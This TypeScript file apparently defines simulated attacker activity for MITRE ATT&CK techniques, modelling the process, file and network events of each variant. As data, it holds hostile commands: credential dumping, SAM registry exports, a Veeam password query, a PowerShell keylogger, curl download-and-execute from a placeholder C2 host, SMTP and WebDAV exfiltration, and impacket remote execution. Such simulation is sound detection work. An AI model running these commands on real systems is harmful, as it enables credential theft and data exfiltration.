import { IMPACKET_OUT, remoteLogon, v } from "../dsl";
import type { Variant } from "../types";

/** Extra named-tool variants (see ../extras.ts). */
export const extrasA: Readonly<Record<string, readonly Variant[]>> = {
  "T1003.004": [
    v(
      "fgdump",
      [
        {
          cmd: "{{tools}}\\fgdump.exe -c -l {{tmp}}\\hosts.txt",
          then: [
            {
              id: "svc",
              kind: "service.install",
              proc: "@services",
              name: "fgexec",
              imagePath: "{{tools}}\\fgexec.exe",
            },
          ],
          pipes: ["\\lsadump"],
        },
      ],
      { elevated: true },
    ),
  ],
  "T1003.005": [
    v(
      "cachedump",
      [
        {
          cmd: "{{tools}}\\fgdump.exe -c",
          then: [
            {
              id: "svc",
              kind: "service.install",
              proc: "@services",
              name: "cachedump",
              imagePath: "{{tools}}\\cachedump64.exe",
            },
          ],
          pipes: ["\\cachedump"],
        },
      ],
      { elevated: true },
    ),
  ],
  "T1003.002": [
    // pwdump7 installs nothing: it opens the volume raw, parses NTFS for the SAM and SYSTEM hives and prints
    // the hashes, which the operator's shell redirects to a file.
    v(
      "pwdump",
      [
        {
          cmd: "{{tools}}\\pwdump7.exe",
          then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
        },
        { by: "sh", files: ["{{tools}}\\{{rand}}.txt"] },
      ],
      { elevated: true },
    ),
  ],
  T1005: [
    v(
      "veeam-credentials",
      [
        'sqlcmd.exe -S localhost\\VEEAMSQL2016 -E -y0 -Q "SELECT TOP (1000) [id],[user_name],[password],[usn],[description],[visible],[change_time_utc] FROM [VeeamBackup].[dbo].[Credentials]"',
      ],
      { elevated: true },
    ),
    v("esentutl-webcache", [
      'esentutl.exe /r V01 /l "{{local}}\\Microsoft\\Windows\\WebCache" /s "{{local}}\\Microsoft\\Windows\\WebCache" /d "{{local}}\\Microsoft\\Windows\\WebCache"',
    ]),
  ],
  T1012: [
    v(
      "regedit-export",
      [
        "regedit.exe /E {{tmp}}\\s.reg HKEY_LOCAL_MACHINE\\SECURITY",
        "regedit.exe /E {{tmp}}\\sam.reg HKLM\\SAM",
      ],
      { elevated: true },
    ),
  ],
  "T1021.003": [
    v(
      "impacket-dcomexec",
      [
        {
          cmd: "C:\\Windows\\system32\\mmc.exe -Embedding",
          as: "mmc",
          host: "@server",
          parent: "@svchost:DcomLaunch",
          user: "@admin",
          then: remoteLogon("dcomx"),
        },
        { cmd: `cmd.exe /Q /c cd \\ ${IMPACKET_OUT}`, host: "@server", parent: "mmc" },
        { cmd: `cmd.exe /Q /c whoami /all ${IMPACKET_OUT}`, host: "@server", parent: "mmc", as: "c" },
        { cmd: "whoami  /all", host: "@server", parent: "c" },
      ],
      { shell: "none" },
    ),
  ],
  "T1021.005": [
    v(
      "ultravnc-reverse",
      [
        {
          cmd: '"C:\\Program Files\\uvnc bvba\\UltraVNC\\winvnc.exe" -autoreconnect -id:{{n}} -connect {{c2ip}}:5500',
          net: [["{{c2ip}}", 5500]],
        },
      ],
      { elevated: true },
    ),
  ],
  "T1021.002": [
    v(
      "impacket-smbexec",
      [
        {
          cmd: `C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat ${IMPACKET_OUT}`,
          host: "@server",
          parent: "@services",
          user: "@system",
          then: [
            ...remoteLogon("smbx"),
            {
              id: "s",
              kind: "service.install",
              host: "@server",
              proc: "@services",
              session: "smbx",
              name: "BTOBTO",
              imagePath:
                "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
            },
          ],
          as: "svc",
        },
        // The service's cmd writes the batch file, runs it in a second cmd, then deletes it.
        { by: "svc", host: "@server", files: ["C:\\Windows\\TEMP\\execute.bat"] },
        {
          cmd: "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat",
          host: "@server",
          parent: "svc",
          user: "@system",
        },
        { by: "svc", host: "@server", deletes: ["C:\\Windows\\TEMP\\execute.bat"] },
      ],
      { shell: "none" },
    ),
  ],
  T1047: [
    v(
      "impacket-wmiexec",
      [
        {
          cmd: `cmd.exe /Q /c hostname ${IMPACKET_OUT}`,
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
          then: remoteLogon("wmix"),
          as: "c1",
        },
        { cmd: "hostname", host: "@server", parent: "c1", user: "@admin" },
        {
          cmd: `cmd.exe /Q /c net localgroup administrators ${IMPACKET_OUT}`,
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
          as: "c2",
        },
        { cmd: "net  localgroup administrators", host: "@server", parent: "c2", user: "@admin" },
      ],
      { shell: "none" },
    ),
  ],
  "T1036.004": [
    v(
      "schtasks-svchost-name",
      ["schtasks /create /sc onlogon /tn svchost /tr C:\\ProgramData\\Microsoft\\svchost.exe /ru SYSTEM /f"],
      { elevated: true },
    ),
  ],
  "T1036.007": [
    v(
      "download-pdf-exe",
      [
        { by: "@msedge", files: ["{{downloads}}\\Invoice_{{n}}.pdf.exe"] },
        { cmd: '"{{downloads}}\\Invoice_{{n}}.pdf.exe" ', parent: "@explorer" },
      ],
      { shell: "none" },
    ),
  ],
  T1039: [
    v(
      "xcopy-admin-share",
      [
        {
          cmd: "xcopy \\\\{{srv}}\\C$\\Users\\Public\\Documents\\*.xlsx {{tmp}}\\x\\ /s /y",
          net: [["@server", 445]],
        },
      ],
      { user: "@admin" },
    ),
    // Mail archives (.pst) kept on a file server share, pulled with robocopy: the server logs 5140/5145.
    v(
      "robocopy-pst-archive",
      [
        {
          cmd: "robocopy \\\\{{srv}}\\Archive\\Mail C:\\ProgramData\\{{rand}} *.pst /S /R:0 /W:0",
          net: [["@server", 445]],
          files: ["C:\\ProgramData\\{{rand}}\\{{user}}.pst"],
          then: [
            ...remoteLogon("fs", "Kerberos"),
            {
              id: "s",
              kind: "share.access",
              host: "@server",
              session: "fs",
              share: "Archive",
              relativeTarget: "Mail\\{{user}}.pst",
              accessMask: "0x120089",
            },
          ],
        },
      ],
      { user: "@admin" },
    ),
  ],
  "T1048.003": [
    v(
      "smtp-exfil",
      [
        {
          ps: "Send-MailMessage -From {{user}}@{{dns}} -To drop.{{rand}}@proton.me -Subject report -Attachments C:\\ProgramData\\{{rand}}.zip -SmtpServer smtp.{{c2}} -Port 587 -UseSsl",
          net: [["smtp.{{c2}}", 587]],
        },
      ],
      { shell: "ps" },
    ),
    v("webdav-rundll32", [
      {
        cmd: "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie {{c2ip}} http://{{c2ip}}/webdav/{{rand}}.zip",
        net: [["{{c2ip}}", 80]],
      },
    ]),
  ],
  "T1053.002": [
    v(
      "at-remote-atsvc",
      [
        {
          cmd: "at \\\\{{srv}} 23:00 C:\\Windows\\Temp\\{{name}}.bat",
          net: [["@server", 445]],
          then: [
            ...remoteLogon("at", "Kerberos"),
            {
              id: "p",
              kind: "share.access",
              host: "@server",
              session: "at",
              share: "IPC$",
              relativeTarget: "atsvc",
              accessMask: "0x12019f",
            },
          ],
        },
      ],
      { elevated: true },
    ),
  ],
  T1055: [
    v("qakbot-wermgr", [
      { cmd: "regsvr32.exe -s {{appdata}}\\{{rand}}.dll", as: "rs" },
      { cmd: "C:\\Windows\\System32\\wermgr.exe", as: "wer", parent: "rs", keep: true },
      { by: "rs", thread: "wer" },
      { cmd: "whoami /all", parent: "wer" },
      { cmd: "ipconfig /all", parent: "wer" },
    ]),
  ],
  "T1055.012": [
    v("rundll32-hollow", [
      { cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,DllRegisterServer", as: "r" },
      // Qakbot's loader starts wermgr.exe suspended, rewrites its image and resumes it; wermgr then beacons.
      { cmd: "C:\\Windows\\System32\\wermgr.exe", parent: "r", as: "w", net: [["{{c2}}", 443]], keep: true },
      { by: "r", access: ["w", "0x1fffff"] },
    ]),
    // Qakbot (2023) hollowed msra.exe the same way; the hollowed Remote Assistance binary runs the recon.
    v("qakbot-msra", [
      { cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,Wind", as: "r" },
      { cmd: "C:\\Windows\\System32\\msra.exe", parent: "r", as: "m", net: [["{{c2}}", 443]], keep: true },
      { by: "r", access: ["m", "0x1fffff"] },
      { cmd: "cmd /c ipconfig /all", parent: "m", as: "c" },
      { cmd: "ipconfig  /all", parent: "c" },
      { cmd: "arp -a", parent: "m" },
      { cmd: "netstat -nao", parent: "m" },
      { cmd: "route print", parent: "m" },
    ]),
  ],
  "T1056.001": [
    v(
      "wpf-keyboard",
      [
        {
          ps: "Add-Type -AssemblyName PresentationCore; while($true){ foreach($k in [Enum]::GetValues([System.Windows.Input.Key])) { if ([Windows.Input.Keyboard]::IsKeyDown([System.Windows.Input.Key]::$k)) { Add-Content $env:TEMP\\k.log $k } }; Start-Sleep -Milliseconds 50 }",
        },
      ],
      { shell: "ps" },
    ),
  ],
  "T1056.002": [
    v(
      "credui-prompt",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          loads: ["C:\\Windows\\System32\\credui.dll"],
          files: ["{{tmp}}\\{{rand}}.txt"],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1068: [
    v(
      "printnightmare-spoolsv",
      [
        // The "driver" DLL lands in the driver store and spoolsv loads it as SYSTEM; it spawns a reverse shell.
        {
          by: "@spoolsv",
          files: ["C:\\Windows\\System32\\spool\\drivers\\x64\\3\\New\\{{rand}}.dll"],
          loads: ["C:\\Windows\\System32\\spool\\drivers\\x64\\3\\{{rand}}.dll"],
        },
        { cmd: "cmd.exe", parent: "@spoolsv", net: [["{{c2}}", 443]], keep: true },
      ],
      { shell: "none" },
    ),
  ],
  "T1059.003": [
    v(
      "cmd-curl-appdata",
      [
        {
          cmd: 'cmd.exe /c curl -s -o %AppData%\\{{name}}.exe http://{{c2}}/{{rand}}.bin & start "" %AppData%\\{{name}}.exe',
          as: "c",
        },
        {
          cmd: "curl  -s -o {{appdata}}\\{{name}}.exe http://{{c2}}/{{rand}}.bin",
          parent: "c",
          net: [["{{c2}}", 80]],
          files: ["{{appdata}}\\{{name}}.exe"],
        },
        { cmd: "{{appdata}}\\{{name}}.exe", parent: "c", keep: true },
      ],
      { shell: "none" },
    ),
    v("for-recursive", [
      "cmd.exe /c for /r C:\\Users\\ %i in (*.kdbx *.pfx *.rdp) do @echo %i >> {{tmp}}\\f.txt",
    ]),
  ],
  "T1069.002": [
    v("sharphound", [
      {
        cmd: "{{tools}}\\SharpHound.exe -c All --zipfilename {{rand}}.zip --outputdirectory {{tools}}",
        net: [
          ["@dc", 389],
          ["@dc", 445],
        ],
        files: ["{{tools}}\\{{rand}}.zip"],
      },
    ]),
  ],
  "T1087.002": [
    v("sharphound", [
      {
        cmd: "{{tools}}\\SharpHound.exe --CollectionMethods Session,LoggedOn,Group --Domain {{dns}} --ZipFileName {{rand}}.zip",
        net: [
          ["@dc", 389],
          ["@server", 445],
        ],
      },
    ]),
  ],
  "T1069.001": [
    // SharpHound's local-group collection: SAMR queries to every reachable host.
    v("sharphound-localgroup", [
      {
        cmd: "{{tools}}\\SharpHound.exe -c LocalGroup --OutputDirectory {{tools}}",
        net: [
          ["@dc", 389],
          ["@server", 445],
        ],
        files: ["{{tools}}\\{{n}}_BloodHound.zip"],
      },
    ]),
    v("get-localgroupmember-cli", [
      'powershell.exe -c "Get-LocalGroupMember -Group Administrators | Select Name,PrincipalSource"',
    ]),
  ],
};
